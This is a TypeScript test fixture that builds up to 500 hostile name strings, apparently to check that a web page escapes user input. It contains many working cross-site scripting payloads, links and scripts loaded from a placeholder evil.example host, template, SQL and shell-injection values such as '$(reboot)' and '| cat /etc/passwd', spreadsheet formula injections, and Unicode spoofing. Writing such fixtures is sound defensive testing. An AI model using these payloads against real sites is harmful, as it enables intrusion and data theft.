// Five hundred hostile strings that an attacker might enter as a name, hoping that a page
// interprets them as markup or code. The list is deterministic; no string is longer than 100
// characters or contains a control character: those are rejected before they are stored.

/** Proves that code was executed: it opens a dialog, which every page of a test records as a complaint. */
const CALL = 'alert(1)'

const scripts = [
  `<script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${CALL}</script>`,
  `<SCRIPT/x>${CALL}</SCRIPT>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"//`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a>`,
  `<math><mtext><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<iframe src=javascript:${CALL}>`,
  `<object data=javascript:${CALL}>`,
  `<embed src=javascript:${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><button>ok</button></form>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<!-- <img src=x onerror=${CALL}> -->`,
  `--><img src=x onerror=${CALL}>`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><x onclick=${CALL}>`,
] as const

const schemes = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript://%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  'file:///etc/passwd',
  '//evil.example/',
  'http://user:pass@evil.example@good.example/',
  `mailto:a@b.example?bcc=all@evil.example`,
  `tel:*#06#`,
] as const

const templates = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{constructor.constructor("alert(1)")()}}',
  '{name}',
  '{0}',
  '%s%s%n',
  '%00',
  '\\u0000',
  '\\x3cscript\\x3e',
  '&lt;script&gt;',
  '&#60;img src=x&#62;',
  '&amp;amp;',
  '**bold** `code` [a](javascript:alert(1))',
  '`${alert(1)}`',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  "'; drop table pets; --",
  '" or ""="',
  '../../etc/passwd',
  '$(reboot)',
  '| cat /etc/passwd',
] as const

const formulas = ['=1+1', '+1', '-1+1', '@SUM(1)', "=cmd|'/c calc'!A1", '=HYPERLINK("//evil.example")'] as const

const letters = [
  '\u202Egnp.exe',
  '\u2066left\u2069 \u2067right\u2069',
  '\u200Bzero\u200Bwidth\u200B.',
  '\uFEFFmark of order',
  `Z${'\u0301\u0323\u0489'.repeat(25)}`,
  '👩‍👩‍👧‍👦🏳️‍🌈👍🏿',
  '👨‍💻'.repeat(9),
  'ﷺﷺﷺ',
  'مرحبا <b>x</b> שלום',
  '𝕳𝖊𝖑𝖑𝖔',
  'ｆｕｌｌ ｗｉｄｔｈ ＜script＞',
  'İıſK',
  '\u00A0\u2003space\u3000s\u00A0.',
  '\u2028line\u2029paragraph.',
  '\uFFFD\uFFFE.',
  'W'.repeat(100),
  'm'.repeat(99),
  '-'.repeat(100),
  'a,"b",\'c\';d\\',
  'ªº①½',
] as const

const css = [
  'url(javascript:alert(1))',
  'expression(alert(1))',
  '</style><img src=x>',
  '@import "//evil.example"',
] as const

const bases = [...scripts, ...schemes, ...templates, ...formulas, ...letters, ...css]

/** Variants that break out of an attribute, of text or of quotes, or stand within words; numbered to make them unique. */
const turns: readonly ((text: string, number: number) => string)[] = [
  (text) => text,
  (text, number) => `">${text}${number}`,
  (text, number) => `'>${text}${number}`,
  (text, number) => `Rex ${text} ${number}`,
  (text, number) => `</textarea></title>${text}${number}`,
  (text, number) => `${number}\`${text}\``,
]

export const hostileStrings: readonly string[] = [
  ...new Set(turns.flatMap((turn) => bases.map((text, index) => turn(text, index).slice(0, 100).trim()))),
]
  // A lone surrogate is not valid text.
  .filter((text) => text.isWellFormed())
  .slice(0, 500)
